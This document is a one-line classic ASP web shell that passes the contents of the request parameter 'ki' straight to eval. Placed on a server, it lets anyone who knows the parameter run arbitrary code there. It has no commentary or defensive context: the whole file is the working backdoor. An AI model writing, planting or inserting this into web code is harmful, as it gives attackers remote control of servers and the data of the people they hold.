<%eval request("ki")%>
